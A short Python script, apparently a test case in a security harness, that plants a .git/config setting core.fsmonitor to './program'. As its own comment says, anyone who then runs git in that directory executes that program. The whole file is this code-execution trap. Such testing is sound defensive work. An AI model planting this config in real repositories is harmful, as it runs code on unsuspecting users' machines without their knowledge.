# Its own, in a directory of its own: whoever runs git there runs what its config names.
import os

from inside import run


def attack(target):
    os.makedirs(f"{target.work}/new/.git")
    with open(f"{target.work}/new/.git/config", "w") as file:
        file.write("[core]\nfsmonitor = ./program\n")


run(attack)
